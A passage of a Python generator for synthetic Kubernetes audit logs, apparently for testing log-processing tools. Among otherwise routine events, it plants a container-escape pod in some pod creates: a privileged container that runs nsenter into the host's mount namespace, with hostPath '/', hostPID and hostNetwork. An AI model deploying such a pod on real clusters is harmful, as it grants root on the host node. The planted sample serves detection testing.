        "annotations": annotations(user, "system:auth-delegator"),
    }
    return ev, (500, 5000)


def t_sar(c: Cluster):
    r = c.rng
    reviewer = r.choice(c.workloads[:4])
    user, src, ua = c.pod_sa(reviewer)
    subj = r.choice(c.workloads)
    sar = {
        "kind": "SubjectAccessReview",
        "apiVersion": "authorization.k8s.io/v1",
        "metadata": {"creationTimestamp": None},
        "spec": {
            "resourceAttributes": {
                "namespace": subj["ns"],
                "verb": r.choice(["get", "list"]),
                "version": "v1",
                "resource": r.choice(["services", "endpoints", "pods"]),
                "subresource": "metrics",
            },
            "user": f"system:serviceaccount:{subj['ns']}:{subj['sa']}",
            "groups": ["system:serviceaccounts", f"system:serviceaccounts:{subj['ns']}", "system:authenticated"],
            "uid": c.uuid(),
        },
        "status": {"allowed": False},
    }
    ev = {
        "level": "Request",
        "requestURI": "/apis/authorization.k8s.io/v1/subjectaccessreviews",
        "verb": "create",
        "user": user,
        "sourceIPs": src,
        "userAgent": ua,
        "objectRef": object_ref("subjectaccessreviews", api_group="authorization.k8s.io"),
        "responseStatus": ok(201),
        "requestObject": sar,
        "annotations": annotations(user, "system:auth-delegator"),
    }
    return ev, (400, 4000)


def t_token_request(c: Cluster):
    r = c.rng
    w = r.choice(c.workloads)
    pod = r.choice(w["pods"])
    user, src, ua = c.kubelet(pod["node"])
    treq = {
        "kind": "TokenRequest",
        "apiVersion": "authentication.k8s.io/v1",
        "metadata": {"creationTimestamp": None},
        "spec": {
            "audiences": ["https://kubernetes.default.svc.cluster.local"],
            "expirationSeconds": 3607,
            "boundObjectRef": {"kind": "Pod", "apiVersion": "v1", "name": pod["name"], "uid": pod["uid"]},
        },
        "status": {"token": "", "expirationTimestamp": None},
    }
    ev = {
        "level": "Request",
        "requestURI": f"/api/v1/namespaces/{w['ns']}/serviceaccounts/{w['sa']}/token",
        "verb": "create",
        "user": user,
        "sourceIPs": src,
        "userAgent": ua,
        "objectRef": object_ref("serviceaccounts", w["ns"], w["sa"], subresource="token"),
        "responseStatus": ok(201),
        "requestObject": treq,
        "annotations": {"authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": ""},
    }
    return ev, (1000, 8000)


def t_event_create(c: Cluster):
    r = c.rng
    w = r.choice(c.workloads)
    pod = r.choice(w["pods"])
    user, src, ua = c.kubelet(pod["node"])
    reason, msg = r.choice(
        [
            ("Pulled", f'Container image "{w["image"]}" already present on machine'),
            ("Started", f"Started container {w['name']}"),
            ("BackOff", "Back-off restarting failed container"),
            ("Unhealthy", "Readiness probe failed: HTTP probe failed with statuscode: 503"),
        ]
    )
    evt = {
        "kind": "Event",
        "apiVersion": "v1",
        "metadata": {"name": f"{pod['name']}.@@SFX@@", "namespace": w["ns"], "creationTimestamp": None},
        "involvedObject": {
            "kind": "Pod",
            "namespace": w["ns"],
            "name": pod["name"],
            "uid": pod["uid"],
            "apiVersion": "v1",
            "resourceVersion": "@@RV@@",
            "fieldPath": f"spec.containers{{{w['name']}}}",
        },
        "reason": reason,
        "message": msg,
        "source": {"component": "kubelet", "host": pod["node"]},
        "firstTimestamp": "@@RTS@@",
        "lastTimestamp": "@@RTS@@",
        "count": 1,
        "type": "Warning" if reason in ("BackOff", "Unhealthy") else "Normal",
        "eventTime": None,
        "reportingComponent": "kubelet",
        "reportingInstance": pod["node"],
    }
    ev = {
        "level": "Request",
        "requestURI": f"/api/v1/namespaces/{w['ns']}/events",
        "verb": "create",
        "user": user,
        "sourceIPs": src,
        "userAgent": ua,
        "objectRef": object_ref("events", w["ns"], f"{pod['name']}.@@SFX@@"),
        "responseStatus": ok(201),
        "requestObject": evt,
        "annotations": {"authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": ""},
    }
    return ev, (800, 6000)


def t_configmap_update(c: Cluster):
    r = c.rng
    w = r.choice(c.workloads)
    user, src, ua = c.pod_sa(w) if r.random() < 0.6 else c.admin()
    name = f"{w['name']}-config"
    cm = {
        "kind": "ConfigMap",
        "apiVersion": "v1",
        "metadata": {
            "name": name,
            "namespace": w["ns"],
            "uid": c.uuid(),
            "resourceVersion": "@@RV@@",
            "creationTimestamp": "2026-02-11T16:40:02Z",
            "labels": {"app.kubernetes.io/name": w["name"]},
        },
        "data": {
            "LOG_LEVEL": r.choice(["info", "debug"]),
            "FEATURE_FLAGS": "a,b,c",
            "config.yaml": f"server:\n  port: 8080\nupstream: http://{r.choice(c.workloads)['name']}.svc:80\n",
        },
    }
    ev = {
        "level": "Request",
        "requestURI": f"/api/v1/namespaces/{w['ns']}/configmaps/{name}",
        "verb": "update",
        "user": user,
        "sourceIPs": src,
        "userAgent": ua,
        "objectRef": object_ref("configmaps", w["ns"], name),
        "responseStatus": ok(),
        "requestObject": cm,
        "annotations": annotations(user, f"{w['name']}-config-writer"),
    }
    return ev, (1500, 9000)


def t_secret(c: Cluster):
    r = c.rng
    w = r.choice(c.workloads)
    import base64

    if r.random() < 0.35:  # get at Request level: no body (the API server never logs a response here)
        user, src, ua = c.pod_sa(w) if r.random() < 0.6 else c.admin()
        name = f"{w['name']}-{r.choice(['db-credentials', 'api-key', 'tls'])}"
        ev = {
            "level": "Request",
            "requestURI": f"/api/v1/namespaces/{w['ns']}/secrets/{name}",
            "verb": "get",
            "user": user,
            "sourceIPs": src,
            "userAgent": ua,
            "objectRef": object_ref("secrets", w["ns"], name),
            "responseStatus": ok(),
            "annotations": annotations(user, f"{w['name']}-secret-reader"),
        }
        return ev, (300, 3000)
    user, src, ua = c.admin() if r.random() < 0.4 else c.pod_sa(c.workloads[6])  # cert-manager
    name = f"{w['name']}-{r.choice(['db-credentials', 'api-key', 'tls', 'registry'])}-@@SFX@@"
    b64 = lambda s: base64.b64encode(s.encode()).decode()
    data = {"username": b64(f"{w['name']}_svc"), "password": b64(c.name(24))}
    if r.random() < 0.3:
        data = {
            "tls.crt": b64("-----BEGIN CERTIFICATE-----\n" + c.name(180) + "\n-----END CERTIFICATE-----\n"),
            "tls.key": b64("-----BEGIN PRIVATE KEY-----\n" + c.name(120) + "\n-----END PRIVATE KEY-----\n"),
        }
    sec = {
        "kind": "Secret",
        "apiVersion": "v1",
        "metadata": {
            "name": name,
            "namespace": w["ns"],
            "creationTimestamp": None,
            "annotations": {
                "kubectl.kubernetes.io/last-applied-configuration": json.dumps(
                    {
                        "apiVersion": "v1",
                        "data": data,
                        "kind": "Secret",
                        "metadata": {"name": name, "namespace": w["ns"]},
                    },
                    separators=(",", ":"),
                )
                + "\n"
            },
        },
        "data": data,
        "type": "kubernetes.io/tls" if "tls.crt" in data else "Opaque",
    }
    ev = {
        "level": "Request",
        "requestURI": f"/api/v1/namespaces/{w['ns']}/secrets?fieldManager=kubectl-client-side-apply",
        "verb": "create",
        "user": user,
        "sourceIPs": src,
        "userAgent": ua,
        "objectRef": object_ref("secrets", w["ns"], name),
        "responseStatus": ok(201),
        "requestObject": sec,
        "annotations": annotations(user, "cluster-admin"),
    }
    return ev, (2000, 10000)


# ---------------------------- RequestResponse level ----------------------------
def pod_spec(c: Cluster, w: dict, node: str, evil: bool) -> dict:
    ctr = {
        "name": w["name"],
        "image": w["image"],
        "ports": [{"name": "http", "containerPort": 8080, "protocol": "TCP"}],
        "env": [
            {"name": "POD_NAME", "valueFrom": {"fieldRef": {"apiVersion": "v1", "fieldPath": "metadata.name"}}},
            {"name": "LOG_LEVEL", "value": "info"},
        ],
        "resources": {"limits": {"cpu": "500m", "memory": "512Mi"}, "requests": {"cpu": "100m", "memory": "128Mi"}},
        "volumeMounts": [
            {
                "name": "kube-api-access-@@SFX@@",
                "readOnly": True,
                "mountPath": "/var/run/secrets/kubernetes.io/serviceaccount",
            }
        ],
        "terminationMessagePath": "/dev/termination-log",
        "terminationMessagePolicy": "File",
        "imagePullPolicy": "IfNotPresent",
        "securityContext": {"allowPrivilegeEscalation": False, "readOnlyRootFilesystem": True, "runAsNonRoot": True},
    }
    vols = [
        {
            "name": "kube-api-access-@@SFX@@",
            "projected": {
                "sources": [
                    {"serviceAccountToken": {"expirationSeconds": 3607, "path": "token"}},
                    {"configMap": {"name": "kube-root-ca.crt", "items": [{"key": "ca.crt", "path": "ca.crt"}]}},
                    {
                        "downwardAPI": {
                            "items": [
                                {
                                    "path": "namespace",
                                    "fieldRef": {"apiVersion": "v1", "fieldPath": "metadata.namespace"},
                                }
                            ]
                        }
                    },
                ],
                "defaultMode": 420,
            },
        }
    ]
    spec = {
        "volumes": vols,
        "containers": [ctr],
        "restartPolicy": "Always",
        "terminationGracePeriodSeconds": 30,
        "dnsPolicy": "ClusterFirst",
        "serviceAccountName": w["sa"],
        "serviceAccount": w["sa"],
        "securityContext": {"seccompProfile": {"type": "RuntimeDefault"}},
        "schedulerName": "default-scheduler",
        "enableServiceLinks": True,
    }
    if evil:
        ctr["image"] = "docker.io/library/alpine:3.19"
        ctr["command"] = ["nsenter", "--mount=/proc/1/ns/mnt", "--", "/bin/sh", "-c", "sleep infinity"]
        ctr["securityContext"] = {"privileged": True}
        ctr["volumeMounts"].append({"name": "host", "mountPath": "/host"})
        vols.append({"name": "host", "hostPath": {"path": "/", "type": ""}})
        spec.update({"hostPID": True, "hostNetwork": True, "nodeName": node})
    return spec


def managed_fields(w: dict) -> list:
    return [
        {
            "manager": "kube-controller-manager",
            "operation": "Update",
            "apiVersion": "v1",
            "time": "@@STS@@",
            "fieldsType": "FieldsV1",
            "fieldsV1": {
                "f:metadata": {
                    "f:generateName": {},
                    "f:labels": {".": {}, "f:app.kubernetes.io/name": {}, "f:pod-template-hash": {}},
                    "f:ownerReferences": {".": {}, 'k:{"uid":"@@UID@@"}': {}},
                },
                "f:spec": {
                    "f:containers": {
                        f'k:{{"name":"{w["name"]}"}}': {
                            ".": {},
                            "f:env": {
                                ".": {},
                                'k:{"name":"LOG_LEVEL"}': {".": {}, "f:name": {}, "f:value": {}},
                                'k:{"name":"POD_NAME"}': {".": {}, "f:name": {}, "f:valueFrom": {}},
                            },
                            "f:image": {},
                            "f:imagePullPolicy": {},
                            "f:name": {},
                            "f:ports": {},
                            "f:resources": {".": {}, "f:limits": {}, "f:requests": {}},
                            "f:securityContext": {},
                            "f:terminationMessagePath": {},
                            "f:terminationMessagePolicy": {},
                        }
                    },
                    "f:dnsPolicy": {},
                    "f:enableServiceLinks": {},
                    "f:restartPolicy": {},
                    "f:schedulerName": {},
                    "f:securityContext": {},
                    "f:serviceAccount": {},
                    "f:serviceAccountName": {},
                    "f:terminationGracePeriodSeconds": {},
                },
            },
        }
    ]


def t_pod_create(c: Cluster):
    r = c.rng
    w = r.choice(c.workloads)
    evil = r.random() < 0.08
    node = r.choice(c.workers)
    if evil:
        user, src, ua = c.admin()
        name = "debug-@@SFX@@"
        meta_req = {"name": name, "namespace": w["ns"], "creationTimestamp": None, "labels": {"run": "debug"}}
    else:
        user, src, ua = c.controller("replicaset-controller")
        name = f"{w['name']}-{w['rs_hash']}-@@SFX@@"
        meta_req = {
            "generateName": f"{w['name']}-{w['rs_hash']}-",
            "namespace": w["ns"],
            "creationTimestamp": None,
            "labels": {"app.kubernetes.io/name": w["name"], "pod-template-hash": w["rs_hash"]},
            "ownerReferences": [
                {
                    "apiVersion": "apps/v1",
                    "kind": "ReplicaSet",
                    "name": f"{w['name']}-{w['rs_hash']}",
                    "uid": "@@UID@@",
                    "controller": True,
                    "blockOwnerDeletion": True,
                }
            ],
        }
    spec = pod_spec(c, w, node, evil)
    req = {"kind": "Pod", "apiVersion": "v1", "metadata": meta_req, "spec": spec, "status": {}}
    meta_resp = dict(meta_req)
    meta_resp.update(
        {
            "name": name,
            "uid": c.uuid(),
            "resourceVersion": "@@RV@@",
            "creationTimestamp": "@@RTS@@",
            "managedFields": managed_fields(w),
        }
    )
    # Admission (DefaultTolerationSeconds, Priority) only shows up in the response object.
    resp_spec = dict(
        spec,
        tolerations=[
            {
                "key": "node.kubernetes.io/not-ready",
                "operator": "Exists",
                "effect": "NoExecute",
                "tolerationSeconds": 300,
            },
            {
                "key": "node.kubernetes.io/unreachable",
                "operator": "Exists",
                "effect": "NoExecute",
                "tolerationSeconds": 300,
            },
        ],
        priority=0,
        preemptionPolicy="PreemptLowerPriority",
    )
    resp = {
        "kind": "Pod",
        "apiVersion": "v1",
        "metadata": meta_resp,
        "spec": resp_spec,
        "status": {"phase": "Pending", "qosClass": "Burstable"},
    }
    uri = f"/api/v1/namespaces/{w['ns']}/pods" + ("?fieldManager=kubectl-run" if evil else "")
    ev = {
        "level": "RequestResponse",
        "requestURI": uri,
        "verb": "create",
        "user": user,
        "sourceIPs": src,
        "userAgent": ua,
        "objectRef": object_ref("pods", w["ns"], name),
        "responseStatus": ok(201),
        "requestObject": req,
        "responseObject": resp,
        "annotations": annotations(
            user,
            "cluster-admin" if evil else "system:controller:replicaset-controller",
            extra={"pod-security.kubernetes.io/enforce-policy": "privileged:latest", **latency_ann(r)},
        ),
    }
    return ev, (5000, 40000)


LARGE_MEDIAN_BYTES = 10_000  # median size of a large-bodies request object


def t_large_body(c: Cluster):
    """A pod create at RequestResponse level whose objects are ~10 KB (median): a container with
    many environment variables and a config annotation, as big application pods carry."""
    r = c.rng
    ev, lat = t_pod_create(c)
    target = int(LARGE_MEDIAN_BYTES * r.lognormvariate(0.0, 0.6))  # ~4-30 KB, median 10 KB
    req, resp = ev["requestObject"], ev["responseObject"]
    env = req["spec"]["containers"][0]["env"]
    words = ["cache", "queue", "region", "endpoint", "timeout", "pool", "retries", "feature", "shard", "bucket"]
    size = len(json.dumps(req))
    while size < target:
        k = f"{r.choice(words).upper()}_{c.name(6).upper()}"
        v = (
            f"https://{c.name(8)}.{r.choice(words)}.svc.cluster.local:{r.randint(1024, 65535)}/{c.name(12)}"
            if r.random() < 0.4
            else c.name(r.randint(8, 48))
        )
        env.append({"name": k, "value": v})
        size += len(k) + len(v) + 22  # {"name": "", "value": ""},
    # the response carries the same spec (plus admission defaults, managedFields): as big again
    resp["spec"] = dict(resp["spec"], containers=req["spec"]["containers"])
    return ev, lat


# every request of the large-bodies shape is one of these
LARGE_FAMILIES = [(t_large_body, "RequestResponse", 1.0, 96)]


# family -> (level, weight within level, number of templates)
FAMILIES = [
    (t_kubelet_read, "Metadata", 0.26, 60),
    (t_controller_read, "Metadata", 0.22, 50),
    (t_pod_sa_read, "Metadata", 0.25, 60),
    (t_admin_read, "Metadata", 0.10, 40),
    (t_nonresource, "Metadata", 0.08, 15),
    (t_forbidden, "Metadata", 0.045, 15),
    (t_exec, "Metadata", 0.045, 24),
    (t_lease_update, "Request", 0.26, 30),
    (t_pod_status_patch, "Request", 0.16, 30),
    (t_event_create, "Request", 0.14, 25),
    (t_deploy_patch, "Request", 0.05, 12),
    (t_json_patch, "Request", 0.034, 10),
    (t_scale, "Request", 0.05, 10),
    (t_delete, "Request", 0.07, 12),
    (t_tokenreview, "Request", 0.06, 10),
    (t_sar, "Request", 0.06, 10),
    (t_token_request, "Request", 0.04, 10),
    (t_configmap_update, "Request", 0.036, 8),
    (t_secret, "Request", 0.04, 12),
    (t_pod_create, "RequestResponse", 1.0, 24),
]


# --------------------------------------------------------------------------------------------
# Template compilation
# --------------------------------------------------------------------------------------------
def to_line(ev: dict) -> str:
    """Serialise like Go's encoding/json: compact, with &, <, > escaped."""
    s = json.dumps(ev, separators=(",", ":"), ensure_ascii=True)
    return s.replace("&", "\\u0026").replace("<", "\\u003c").replace(">", "\\u003e")


def compile_template(s: str):
    """'...@@AID@@...' -> ('...%s...', (0,)) with literal % escaped."""
    parts = PH_RE.split(s.replace("%", "%%"))
    order = tuple(PH_INDEX[p] for p in parts[1::2])
    return "%s".join(parts[0::2]) + "\n", order


def build_event(body: dict, stage: str) -> dict:
    ev = {
        "kind": "Event",
        "apiVersion": "audit.k8s.io/v1",
        "level": body["level"],
        "auditID": "@@AID@@",
        "stage": stage,
    }
    for k in ("requestURI", "verb", "user", "impersonatedUser", "sourceIPs", "userAgent", "objectRef"):
        if k in body:
            ev[k] = body[k]
    if stage != "RequestReceived":
        # a ResponseStarted event (long-running requests: watch, exec) has no response body yet
        for k in ("responseStatus", "requestObject") + (("responseObject",) if stage != "ResponseStarted" else ()):
            if k in body:
                ev[k] = body[k]
    ev["requestReceivedTimestamp"] = "@@RTS@@"
    ev["stageTimestamp"] = "@@RTS@@" if stage == "RequestReceived" else "@@STS@@"
    if stage != "RequestReceived" and "annotations" in body:
        ev["annotations"] = body["annotations"]
    return ev


def build_templates(rng: random.Random, families=None):
    """Return (templates, pick table, stages).

    A template is (full_fmt, full_order, rr_fmt, rr_order, lat_lo, lat_hi); ``stages[i]`` is
    (verb, rs_fmt, rs_order), the template's ResponseStarted event (the watch shapes write it).
    Compiling the extra stage draws nothing from ``rng``, so the paired file does not change.
    """
    c = Cluster(rng)
    templates, weights, stages = [], [], []
    for fn, level, w_in_level, count in families or FAMILIES:
        for _ in range(count):
            body, (lo, hi) = fn(c)
            if level == "Request" and "annotations" in body and rng.random() < 0.6:
                body["annotations"].update(latency_ann(rng))  # slow-request annotations
            full = compile_template(to_line(build_event(body, "ResponseComplete")))
            rr = compile_template(to_line(build_event(body, "RequestReceived")))
            rs = compile_template(to_line(build_event(body, "ResponseStarted")))
            templates.append((full[0], full[1], rr[0], rr[1], lo, hi))
            stages.append((body["verb"], rs[0], rs[1]))
            weights.append(LEVEL_WEIGHTS[level] * w_in_level / count)
    return templates, pick_table(weights), stages


def pick_table(weights: list[float]) -> list[int]:
    """A 64k-slot table so that picking a template is one getrandbits(16)."""
    total = sum(weights)
    table, acc = [], 0.0
    for i, wt in enumerate(weights):
        acc += wt / total * 65536
        table.extend([i] * (round(acc) - len(table)))
    table.extend([len(weights) - 1] * (65536 - len(table)))
    return table


# --------------------------------------------------------------------------------------------
# Generation
# --------------------------------------------------------------------------------------------
SHAPES = ("paired", "unmatched", "watch", "large", "eks-pages", "small-files")
WATCH_SHARE = 0.75  # watch shape: share of requests that are watches
WATCH_LATENCY_US = (300_000_000, 600_000_000)  # a watch ends at its timeoutSeconds: 5-10 min
PAGE_BYTES = 1 << 20  # FilterLogEvents returns at most 1 MB (and 10,000 events) per call
PAGE_EVENTS = 10_000
SMALL_FILES = 10_000


def audit_lines(n: int, seed: int = 42, *, shape: str = "paired", unmatched: float = 0.11, meta: dict | None = None):
    """Yield blocks (lists) of N audit lines of one shape; counts go into ``meta``.

    paired     today's mix: ~8 % of requests write RequestReceived, then ResponseComplete 1-40
               lines later (the file the suite always used: same seed, same bytes).
    unmatched  as paired, plus early stages of watch requests (RequestReceived, half of them
               also ResponseStarted) whose ResponseComplete is not in the file -- a time-window
               export cuts them off; ``unmatched`` is their share of the lines.
    watch      ~75 % of requests are watches: RequestReceived, ResponseStarted a few lines later,
               ResponseComplete 5-10 minutes (thousands of lines) later.
    large      every request a RequestResponse pod create whose objects are ~10 KB (median).
    """
    if shape not in ("paired", "unmatched", "watch", "large"):
        raise ValueError(f"no line shape {shape!r}")
    meta = {} if meta is None else meta
    rng = random.Random(seed)
    templates, table, stages = build_templates(rng, LARGE_FAMILIES if shape == "large" else None)
    getbits, rand = rng.getrandbits, rng.random
    watch_ix = [i for i, st in enumerate(stages) if st[0] == "watch"]
    is_watch = [st[0] == "watch" for st in stages]
    lines_per_req = 1.0 + RR_PAIR_P
    q_unmatched = 0.0
    if shape == "watch":
        ws = sum(1 for i in table if is_watch[i]) / len(table)
        k = WATCH_SHARE * (1 - ws) / ((1 - WATCH_SHARE) * ws)  # re-weight watches to WATCH_SHARE of requests
        weights = [0.0] * len(templates)
        for i in table:
            weights[i] += k if is_watch[i] else 1.0
        table = pick_table(weights)
        lines_per_req = WATCH_SHARE * 3 + (1 - WATCH_SHARE) * (1.0 + RR_PAIR_P)
    elif shape == "unmatched":
        # requests drawn as unmatched so that ~`unmatched` of the lines are (1.5 lines each)
        q_unmatched = (1.0 + RR_PAIR_P) * unmatched / (1.5 - (1.5 - 1.0 - RR_PAIR_P) * unmatched)
        lines_per_req = q_unmatched * 1.5 + (1 - q_unmatched) * (1.0 + RR_PAIR_P)

    start_us = int(START.timestamp()) * 1_000_000
    step = SPAN_US / max(n, 1)
    minute_prefix: dict[int, str] = {}

    def ts(us: int) -> str:
        m, rem = divmod(us, 60_000_000)
        p = minute_prefix.get(m)
        if p is None:
            p = minute_prefix[m] = dt.datetime.fromtimestamp(m * 60, dt.UTC).strftime("%Y-%m-%dT%H:%M:")
        s, u = divmod(rem, 1_000_000)
        return "%s%02d.%06dZ" % (p, s, u)

    def uuid() -> str:
        h = "%032x" % getbits(128)
        return "%s-%s-4%s-a%s-%s" % (h[:8], h[8:12], h[13:16], h[17:20], h[20:])

    suffixes = ["".join(rng.choice(NAME_ALPHABET) for _ in range(5)) for _ in range(4096)]
    pending: list = []  # heap of (line index due, seq, text) for delayed later stages
    written = reserved = seq = rr_lines = unmatched_lines = unmatched_reqs = watches = 0
    block: list[str] = []
    t = float(start_us)
    while written < n:
        if pending and pending[0][0] <= written:
            line = heapq.heappop(pending)[2]
        elif reserved < n:
            if q_unmatched and reserved + 2 <= n and rand() < q_unmatched:
                # the early stages of a watch whose end the export window cut off
                _, rs_fmt, rs_order = stages[watch_ix[getbits(16) % len(watch_ix)]]
                rr_fmt, rr_order = templates[watch_ix[getbits(16) % len(watch_ix)]][2:4]
                t += step * lines_per_req * (0.5 + rand())
                rts_us = int(t)
                sts = ts(rts_us + 1000 + getbits(14))
                vals = (uuid(), ts(rts_us), sts, uuid(), suffixes[getbits(12)], str(10_000_000 + getbits(24)))
                line = rr_fmt % tuple([vals[i] for i in rr_order])
                unmatched_lines += 1
                unmatched_reqs += 1
                reserved += 1
                if getbits(1):
                    seq += 1
                    heapq.heappush(
                        pending, (written + 1 + getbits(3), seq, rs_fmt % tuple([vals[i] for i in rs_order]))
                    )
                    unmatched_lines += 1
                    reserved += 1
                block.append(line)
                written += 1
                continue
            ix = table[getbits(16)]
            full_fmt, full_order, rr_fmt, rr_order, lo, hi = templates[ix]
            t += step * lines_per_req * (0.5 + rand())
            rts_us = int(t)
            sts_us = rts_us + lo + int((hi - lo) * rand() * rand())
            vals = (uuid(), ts(rts_us), ts(sts_us), uuid(), suffixes[getbits(12)], str(10_000_000 + getbits(24)))
            line = full_fmt % tuple([vals[i] for i in full_order])
            if shape == "watch" and is_watch[ix] and reserved + 3 <= n:
                # RequestReceived now, ResponseStarted a few lines later, ResponseComplete when the
                # watch times out, minutes of log later
                lat_us = WATCH_LATENCY_US[0] + int((WATCH_LATENCY_US[1] - WATCH_LATENCY_US[0]) * rand())
                done = (vals[0], vals[1], ts(rts_us + lat_us)) + vals[3:]
                started = (vals[0], vals[1], ts(rts_us + 1000 + getbits(14))) + vals[3:]
                _, rs_fmt, rs_order = stages[ix]
                seq += 1
                heapq.heappush(pending, (written + 1 + getbits(2), seq, rs_fmt % tuple([started[i] for i in rs_order])))
                seq += 1
                due = written + int(lat_us / step)
                heapq.heappush(pending, (due, seq, full_fmt % tuple([done[i] for i in full_order])))
                line = rr_fmt % tuple([vals[i] for i in rr_order])
                rr_lines += 1
                watches += 1
                reserved += 3
            elif reserved + 2 <= n and rand() < RR_PAIR_P:
                # RequestReceived now, ResponseComplete 1-40 lines later (same auditID).
                seq += 1
                heapq.heappush(pending, (written + 1 + getbits(5) + getbits(3), seq, line))
                line = rr_fmt % tuple([vals[i] for i in rr_order])
                rr_lines += 1
                reserved += 2
            else:
                reserved += 1
        else:
            line = heapq.heappop(pending)[2]
        block.append(line)
        written += 1
        if len(block) >= 4096:
            yield block
            block = []
    if block:
        yield block
    assert not pending and written == n
    first = dt.datetime.fromtimestamp(start_us / 1e6, dt.UTC)
    last = dt.datetime.fromtimestamp(t / 1e6, dt.UTC)
    dates = [(first.date() + dt.timedelta(days=i)).isoformat() for i in range((last.date() - first.date()).days + 1)]
    meta.update(
        lines=n,
        seed=seed,
        request_received_lines=rr_lines,
        unmatched_early_stage_lines=unmatched_lines,
        watch_requests=watches,
        unmatched_requests=unmatched_reqs,
        # one row per request: a paired request's RequestReceived, a watch's first two stages
        # and the second early stage of an unmatched request share an auditID with another line
        unique_audit_ids=n - rr_lines - watches - (unmatched_lines - unmatched_reqs),
        templates=len(templates),
        dates=dates,
    )


def _write_jsonl(blocks, out: str) -> int:
    nbytes = 0
    tmp = out + ".tmp"
    with open(tmp, "w", encoding="ascii", newline="\n", buffering=1 << 20) as f:
        for block in blocks:
            chunk = "".join(block)
            nbytes += len(chunk)
            f.write(chunk)
    os.replace(tmp, out)
    return nbytes


def _write_small_files(blocks, outdir: str, n: int, files: int) -> int:
    """The same lines spread over ``files`` files in order (file i holds lines i*n/files ...);
    one file's lines are held until it is written."""
    tmp = outdir.rstrip("/") + ".tmp"
    shutil.rmtree(tmp, ignore_errors=True)
    os.makedirs(tmp)
    nbytes = i = line_no = 0
    bound = n // files
    held: list[str] = []

    def flush() -> int:
        with open(os.path.join(tmp, "audit-%05d.jsonl" % i), "w", encoding="ascii", newline="\n") as f:
            text = "".join(held)
            f.write(text)
        held.clear()
        return len(text)

    for block in blocks:
        for line in block:
            while line_no >= bound and i + 1 < files:
                nbytes += flush()
                i += 1
                bound = (i + 1) * n // files
            held.append(line)
            line_no += 1
    nbytes += flush()
    os.replace(tmp, outdir)
    return nbytes


def _write_eks_pages(blocks, out: str, seed: int) -> tuple[int, int]:
    """The lines as CloudWatch Logs ``filter-log-events`` responses, one after another in one file
    (a script that saves each page with ``>>``), indented as the AWS CLI prints them: each event's
    ``message`` is the audit Event as a JSON string; a page ends at 1 MB or 10,000 events and
    carries ``nextToken`` unless it is the last."""
    rng = random.Random(seed * 7919 + 5)
    streams = ["kube-apiserver-audit-%032x" % rng.getrandbits(128) for _ in range(3)]
    epoch_min: dict[str, int] = {}

    def millis(line: str) -> int:
        i = line.find('"stageTimestamp":"') + 18
        minute = line[i : i + 17]  # 2026-03-14T06:30:
        base = epoch_min.get(minute)
        if base is None:
            base = epoch_min[minute] = (
                int(dt.datetime.strptime(minute, "%Y-%m-%dT%H:%M:").replace(tzinfo=dt.UTC).timestamp()) * 1000
            )
        return base + int(float(line[i + 17 : i + 26]) * 1000)

    ev_fmt = (
        '        {\n            "logStreamName": "%s",\n            "timestamp": %d,\n            "message": %s,\n'
        '            "ingestionTime": %d,\n            "eventId": "%s"\n        }'
    )
    head = '{\n    "events": [\n'
    nbytes = pages = 0
    page: list[str] = []
    page_bytes = 0
    tmp = out + ".tmp"
    dumps = json.dumps
    getbits = rng.getrandbits

    def flush(f, last: bool) -> int:
        tail = '\n    ],\n    "searchedLogStreams": []' + (
            "" if last else ',\n    "nextToken": "Bxkq6kVGFtq2y_Moigeqscgt%s"' % ("%048x" % getbits(192))
        )
        text = head + ",\n".join(page) + tail + "\n}\n"
        f.write(text)
        return len(text)

    with open(tmp, "w", encoding="ascii", newline="\n", buffering=1 << 20) as f:
        for block in blocks:
            for line in block:
                ms = millis(line)
                msg = line.rstrip("\n")
                ev = ev_fmt % (streams[getbits(2) % 3], ms, dumps(msg), ms + 200 + getbits(10), "%056d" % getbits(180))
                if page and (page_bytes + len(ev) > PAGE_BYTES or len(page) >= PAGE_EVENTS):
                    nbytes += flush(f, False)
                    pages += 1
                    page, page_bytes = [], 0
                page.append(ev)
                page_bytes += len(ev)
        if page:
            nbytes += flush(f, True)
            pages += 1
    os.replace(tmp, out)
    return nbytes, pages


def generate(
    n: int, out: str, seed: int = 42, *, shape: str = "paired", unmatched: float = 0.11, files: int = SMALL_FILES
) -> dict:
    """Write N audit events of one shape to ``out`` (a file; a folder for small-files) and return
    the meta (lines, bytes, counts). eks-pages and small-files hold the paired shape's events."""
    if shape not in SHAPES:
        raise ValueError(f"unknown shape {shape!r}; one of {SHAPES}")
    meta: dict = {}
    line_shape = "paired" if shape in ("eks-pages", "small-files") else shape
    blocks = audit_lines(n, seed, shape=line_shape, unmatched=unmatched, meta=meta)
    if shape == "small-files":
        nbytes = _write_small_files(blocks, out, n, files)
        meta["files"] = files
    elif shape == "eks-pages":
        nbytes, meta["pages"] = _write_eks_pages(blocks, out, seed)
    else:
        nbytes = _write_jsonl(blocks, out)
    meta.update(path=os.path.abspath(out), shape=shape, bytes=nbytes)
    if shape == "unmatched":
        meta["unmatched_share"] = round(meta["unmatched_early_stage_lines"] / max(n, 1), 4)
    return meta


# --------------------------------------------------------------------------------------------
# --stats: validate and summarise a written file
# --------------------------------------------------------------------------------------------
def stats(path: str) -> dict:
    try:
        import orjson

        loads = orjson.loads
    except ImportError:  # pragma: no cover
        loads = json.loads
    from collections import Counter

    n = bad = 0
    level, stage, size_by_level = Counter(), Counter(), Counter()
    body_kind, user_kind, dates, verbs = Counter(), Counter(), Counter(), Counter()
    n_body = n_array = n_exec = n_secret_data = n_extra_pod = n_token = n_imp = n_resp_obj = 0
    rr_ids, rc_ids = set(), set()
    with open(path, "rb") as f:
        for raw in f:
            n += 1
            try:
                e = loads(raw)
            except Exception:
                bad += 1
                continue
            lv, st = e["level"], e["stage"]
            level[lv] += 1
            stage[st] += 1
            verbs[e["verb"]] += 1
            size_by_level[lv] += len(raw)
            (rr_ids if st == "RequestReceived" else rc_ids).add(e["auditID"])
            dates[e["stageTimestamp"][:10]] += 1
            if st == "RequestReceived":
                assert "responseStatus" not in e and "annotations" not in e and "requestObject" not in e
            u = e["user"]["username"]
            user_kind[u if u in ("kubernetes-admin", "system:anonymous") else ":".join(u.split(":")[:2])] += 1
            if "authentication.kubernetes.io/pod-name" in e["user"].get("extra", {}):
                n_extra_pod += 1
            if "impersonatedUser" in e:
                n_imp += 1
            if "responseObject" in e:
                n_resp_obj += 1
            ro = e.get("requestObject")
            if ro is not None:
                n_body += 1
                if isinstance(ro, list):
                    n_array += 1
                    body_kind["<json-patch array>"] += 1
                else:
